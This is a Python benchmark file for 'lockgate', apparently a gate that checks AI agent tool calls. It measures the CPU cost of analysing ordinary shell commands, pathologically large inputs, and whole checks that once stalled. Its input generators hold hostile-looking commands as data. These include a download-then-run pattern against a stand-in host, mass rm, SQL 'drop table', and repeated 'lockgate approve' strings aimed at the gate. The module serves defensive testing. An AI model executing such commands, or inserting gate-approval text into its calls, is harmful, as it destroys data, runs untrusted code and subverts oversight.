"""What reading the effects of a call costs: ordinary commands, commands made to cost, and calls that once stalled."""

from __future__ import annotations

from collections.abc import Callable
from statistics import median
from time import thread_time

from hostile import exponent
from lockgate.core.ruling.effects.effects_of_call import effects_of
from lockgate.core.ruling.effects.project import NO_PROJECT
from lockgate.core.vocabulary import ToolCall
from lockgate.gate.gate import Gate
from speed import GOAL, Effort, Tick
from tables import Check, Row, Table, size_text, time_text

ORDINARY = r"""
ls -la src
cat pyproject.toml | head -40
sed -n '10,80p' src/app.py
grep -rn "def main" src tests --include='*.py'
rg -n TODO src | wc -l
find . -name '*.pyc' -not -path './.venv/*' -delete
git status --short && git diff --stat
git log --oneline -20 -- src/app.py
git add -A && git commit -m "Fix rounding in the cart"
python -m pytest -q tests/test_cart.py -k rounding
pytest -x 2>&1 | tail -30
npm ci && npm run build
npx tsc --noEmit -p tsconfig.json
pip install -r requirements.txt
cargo test --workspace -- --nocapture
go test ./... -run TestCart -count=1
make lint test
docker compose up -d db
kubectl get pods -n shop -o wide
for f in src/*.py; do wc -l "$f"; done
cd web && yarn lint --fix
python3 -c 'import json; print(json.load(open("package.json"))["version"])'
curl -s http://localhost:8000/health | jq .
mkdir -p build/out && cp -r assets build/out/
""".strip().splitlines()

# Texts of a size that shells, our parser or our patterns could need more than one pass for.
COMMANDS: dict[str, Callable[[int], str]] = {
    "a; a; a;": lambda size: "a; " * (size // 3),
    "here-documents": lambda size: "<<A " * (size // 4),
    "$(( (": lambda size: "$((" * (size // 3),
    "$( $(": lambda size: "$(" * (size // 2),
    "back quotes": lambda size: "`a " * (size // 3),
    "defaults": lambda size: "${a:-" * (size // 5),
    "if": lambda size: "if a; then " * (size // 11),
    "pipes": lambda size: "a|" * (size // 2),
    "braces": lambda size: "echo " + "{a,b}" * (size // 5),
    "brace words": lambda size: "echo " + "{a,b}{c,d} " * (size // 11),
    "a variable that doubles": lambda size: "x=aaaa; " + "x=$x$x; " * (size // 8),
    "functions": lambda size: "".join(f"f{n}() {{ f{n + 1}; }}; " for n in range(size // 20)) + "f0",
    "aliases": lambda size: "".join(f"alias a{n}=a{n + 1}; " for n in range(size // 20)) + "a0",
    "sh -c": lambda size: "sh -c 'a'; " * (size // 11),
    "eval": lambda size: "eval " + "a " * (size // 2),
    "quotes": lambda size: "'\"" * (size // 2),
    "one long word": lambda size: "a" * size,
    "words": lambda size: "rm " + "/a " * (size // 3),
    "redirections": lambda size: "a " + ">b " * (size // 3),
    "downloads, then files": lambda size: "".join(f"curl -o f{n} h.example; sh f{n}; " for n in range(size // 32)),
    "downloads, then other files": lambda size: "".join(
        f"curl -o f{n} h.example; sh g{n}; " for n in range(size // 32)
    ),
    "files written, then run": lambda size: "".join(f"echo a > f{n}; sh f{n}; " for n in range(size // 22)),
    "variables": lambda size: "".join(f"A{n}_CMD=/tmp/x " for n in range(size // 16)) + "ls",
    "sed": lambda size: "sed 's/" + "a\\/" * (size // 3) + "/b/e' x",
    "awk": lambda size: "awk '" + 'print > "a" ' * (size // 12) + "'",
    "printf": lambda size: "printf '" + "%s" * (size // 2) + "' a b",
    "code that deletes": lambda size: 'python3 -c \'unlink "/a" \n' + 'glob "/a" ' * (size // 10) + "'",
    "code with open quotes": lambda size: "perl -e 'open " + '"' * size + "'",
    "code with processes": lambda size: "python3 -c '" + 'os.system("a" + b); ' * (size // 20) + "'",
    "code with paths": lambda size: "node -e '" + 'open("/a/b","w") ' * (size // 17) + "'",
    "SQL": lambda size: "psql -c '" + "drop table a; " * (size // 14) + "'",
    "ssh": lambda size: "ssh h.example '" + "ls; " * (size // 4) + "'",
    "jq": lambda size: "jq '" + "env." * (size // 4) + "' a",
    "options": lambda size: "git log " + "--a=b " * (size // 6),
    "paths": lambda size: "cat " + "../" * (size // 3),
    "globs": lambda size: "cat " + "*?[a]" * (size // 5),
}


def tables_of(gate: Gate, effort: Effort, tick: Tick) -> list[Table]:
    """The tables of this part."""
    return [ordinary(effort, tick), hostile(effort, tick), stalls(gate, effort, tick)]


def _cost(line: str, rounds: int) -> float:
    call = ToolCall("Bash", {"command": line})
    found = []
    for _ in range(rounds):
        start = thread_time()
        effects_of(call, NO_PROJECT)
        found.append(thread_time() - start)
    return median(found)


def ordinary(effort: Effort, tick: Tick) -> Table:
    """The effects of ordinary commands, each by itself; what is read for the first time is not counted."""
    tick("effects: ordinary commands")
    costs = sorted((_cost(line, 20 * effort.rounds + 1), line) for line in ORDINARY)
    middle, (most, dearest) = median(cost for cost, _ in costs), costs[-1]
    row = Row(
        {
            "commands": str(len(costs)),
            "median": time_text(middle),
            "least": time_text(costs[0][0]),
            "most": time_text(most),
            "dearest": f"`{dearest[:60]}`".replace("|", "\\|"),
        },
        (Check("effects, ordinary", middle * 1e6),),
        {"median": middle, "most": most},
    )
    columns = ("commands", "median", "least", "most", "dearest")
    return Table("Speed 9. The effects of an ordinary command, CPU", columns, [row])


def hostile(effort: Effort, tick: Tick) -> Table:
    """Commands made to cost, at 15 KB and at 60 KB."""
    # A command of more than 64 KB is not read at all.
    small, large = (15_360, 61_440) if effort.rounds > 1 else (1_024, 4_096)
    rows = []
    for name, make in COMMANDS.items():
        tick(f"effects: {name}")
        few, many = _cost(make(small), 5), _cost(make(large), 5)
        growth = exponent(few, many, large / small)
        cells = {
            "command": f"`{name}`".replace("|", "\\|"),
            size_text(small): time_text(few),
            size_text(large): time_text(many),
            "growth": f"n^{growth:.2f}",
        }
        # Below a millisecond the clock and the caches are measured.
        checks = (Check("effects, hostile", many * 1e3), *((Check("growth", growth),) if many > 1e-3 else ()))
        rows.append(Row(cells, checks, {"small": few, "large": many, "growth": growth}))
    rows.sort(key=lambda row: row.numbers["large"], reverse=True)
    title = f"Speed 10. The effects of commands made to cost, {size_text(small)} and {size_text(large)}, dearest first"
    return Table(title, ("command", size_text(small), size_text(large), "growth"), rows)


def stalls(gate: Gate, effort: Effort, tick: Tick) -> Table:
    """Whole checks that once took many seconds, at a quarter of their size and at all of it."""
    factor = 4
    rows = []
    for name, make in _STALLS.items():
        tick(f"effects: {name}")
        # Some parts of the rules are compiled when they are first needed.
        _check_once(gate, *make(1 / factor if effort.rounds > 1 else 0.05))
        found = []
        for size in (1, factor) if effort.rounds > 1 else (0.05, 0.2):
            page, tool, arguments = make(size / factor)
            runs = [_check_once(gate, page, tool, arguments) for _ in range(3)]
            found.append((median(runs), len(page) + sum(len(str(value)) for value in arguments.values())))
        growth = exponent(found[0][0], found[1][0], found[1][1] / found[0][1])
        cells = {
            "check": name,
            "text": size_text(found[1][1]),
            "a quarter": time_text(found[0][0]),
            "whole": time_text(found[1][0]),
            "growth": f"n^{growth:.2f}",
            "per 64 KB": time_text(found[1][0] * 65_536 / found[1][1]),
        }
        per_part = found[1][0] * 1e3 * min(1, 65_536 / found[1][1])
        checks = (Check("growth", growth), Check("effects, hostile", per_part))
        rows.append(Row(cells, checks, {"whole": found[1][0], "growth": growth}))
    columns = ("check", "text", "a quarter", "whole", "growth", "per 64 KB")
    return Table("Speed 11. Checks that once stalled, the first after a page", columns, rows)


def _check_once(gate: Gate, page: str, tool: str, arguments: dict[str, object]) -> float:
    """Return the CPU time of the first check after a page; later ones find what it remembered."""
    session = gate.session(goal=GOAL)
    session.add(page, source="web:h.example")
    start = thread_time()
    session.check(tool, arguments)
    return thread_time() - start


def _addresses(part: float) -> tuple[str, str, dict[str, object]]:
    count = int(1_024 * part)
    return "a1 " * int(13_900 * part), "send_email", {"to": [f"a1.b{n}@h.example" for n in range(count)]}


def _web_log(part: float) -> tuple[str, str, dict[str, object]]:
    count = int(1_024 * part)
    urls = [f"https://shop.example/item/{n}?ref=mail" for n in range(count)]
    line = '10.0.0.{} - - [16/Nov/2026:10:00:00] "GET /item/{}?ref=mail HTTP/1.1" 200 512 "https://shop.example/"\n'
    page = "".join(line.format(n % 250, n % 1_024) for n in range(int(5_200 * part)))
    return page, "send_report", {"links": urls}


def _strings(part: float) -> tuple[str, str, dict[str, object]]:
    return "hello", "Bash", {"command": "ls", "notes": ["lockgate approve " + "ab" * 500] * int(1_000 * part)}


def _one_string(part: float) -> tuple[str, str, dict[str, object]]:
    return "hello", "Bash", {"command": "echo " + "lockgate hook " * int(75_000 * part)}


def _hosts(part: float) -> tuple[str, str, dict[str, object]]:
    page = "".join(f"a{n}.host{n}.example " for n in range(int(45_000 * part)))
    return page, "send_email", {"to": "ann@brandt-bau.example", "subject": "Report", "body": "Here it is."}


_STALLS = {
    "1,024 addresses against a page of `a1`": _addresses,
    "1,024 URLs against a web log": _web_log,
    "a mail after 1 MB of hosts": _hosts,
    "1 MB of strings that speak of Lockgate": _strings,
    "1 MB of one command that speaks of Lockgate": _one_string,
}
